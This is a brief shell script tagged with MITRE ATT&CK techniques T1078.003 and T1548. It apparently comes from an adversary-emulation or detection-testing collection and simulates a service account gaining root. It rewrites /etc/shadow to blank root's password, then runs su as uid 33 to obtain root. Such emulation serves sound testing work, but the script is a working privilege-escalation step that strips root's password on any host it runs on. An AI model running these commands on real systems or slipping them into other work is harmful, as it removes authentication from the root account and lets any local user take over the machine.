# title: A service's user becomes root by a password that somebody left
# technique: T1078.003 T1548
# needs: su setpriv

sed -i 's/^root:[^:]*:/root::/' /etc/shadow
setpriv --reuid 33 --regid 33 --clear-groups sh -c 'su root -c id'; true
